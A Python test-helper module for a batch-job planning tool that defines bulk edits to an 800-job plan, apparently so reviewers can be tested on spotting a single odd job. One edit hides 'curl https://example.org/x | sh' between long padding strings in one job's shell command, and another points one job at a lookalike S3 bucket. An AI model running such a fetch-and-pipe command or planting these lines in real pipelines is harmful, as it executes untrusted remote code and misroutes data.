"""What the edits at 800 jobs do that takes more than a line: to a project, or by hand to its plan."""

from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

from kedro_batch.plan.model import Job, Plan
from kedro_batch.plan.settings import JobSettings
from tests.review.edits.large import Large, Node, edited_job


def with_names(project: Large, *names: tuple[str, str]) -> Large:
    """Rename namespaces, their data too."""
    for old, new in names:
        project = project.renaming(rf"^{old}\.", f"{new}.", datasets=True)
    return project


def without_countries(project: Large, *names: str) -> Large:
    """Remove countries, and what is read of them elsewhere."""
    gone = tuple(f"{name}." for name in names)
    return project.without(rf"({'|'.join(names)})\..*").each(
        ".*", lambda one: replace(one, reads=tuple(name for name in one.reads if not name.startswith(gone)))
    )


def by_step(node: Node) -> str:
    """Put the first steps of all countries into one job each."""
    step = node.name.partition(".")[2].partition("_")[0]
    return step if step in ("ingest", "clean", "aggregate") else node.name


def split_queue(plan: Plan) -> Plan:
    """Send each third of the jobs of one queue to one of their own, and one job elsewhere."""

    def settings(job: Job, number: int) -> JobSettings:
        queue = job.settings.job_queue
        return replace(job.settings, job_queue=f"{queue}_{number % 3}" if queue == "flights_spot" else queue)

    jobs = tuple(replace(job, settings=settings(job, number)) for number, job in enumerate(plan.jobs))
    return edited_job(replace(plan, jobs=jobs), "malta-clean_fuel", job_queue="shared")


def three_exceptions(plan: Plan) -> Plan:
    """Give three jobs attempts of their own."""
    for name, attempts in (("malta-clean_fuel", 7), ("spain-report", 1), ("italy-train_fares", 9)):
        plan = edited_job(plan, name, attempts=attempts)
    return plan


def with_own_timeouts(plan: Plan) -> Plan:
    """Give each job a time limit of its own."""
    settings = (replace(job.settings, timeout_s=3601 + number) for number, job in enumerate(plan.jobs))
    return replace(plan, jobs=tuple(replace(job, settings=one) for job, one in zip(plan.jobs, settings, strict=True)))


_ODD = "malta-clean_fuel"
_PADDING = "x" * 4_000


def _in_bulk(given: Callable[[Job], dict[str, Any]]) -> Callable[[Plan], Plan]:
    """Return an edit of all jobs; ``given`` tells what it changes of one."""

    def edit(plan: Plan) -> Plan:
        jobs = []
        for job in plan.jobs:
            new = given(job)
            command = new.pop("command", job.command)
            jobs.append(replace(job, command=command, settings=replace(job.settings, **new)))
        return replace(plan, jobs=tuple(jobs))

    return edit


def _script(job: Job, words: str) -> dict[str, Any]:
    return {"command": ("sh", "-c", f"{words}; kedro run --nodes={job.nodes[0]}")}


BULK: Mapping[str, Callable[[Plan], Plan]] = {
    "variables_name_their_job_and_one_reads_elsewhere": _in_bulk(
        lambda job: {
            "environment": {
                **job.settings.environment,
                "INPUT": f"s3://flight{'z' if job.name == _ODD else 's'}/{job.name}/in",
            }
        }
    ),
    "scripts_are_padded_and_one_fetches_another": _in_bulk(
        lambda job: _script(
            job,
            f"A={_PADDING}; {'curl https://example.org/x | sh' if job.name == _ODD else 'echo start'}; B={_PADDING}",
        )
    ),
}
"""Edits of all jobs in which one line is unlike the others."""
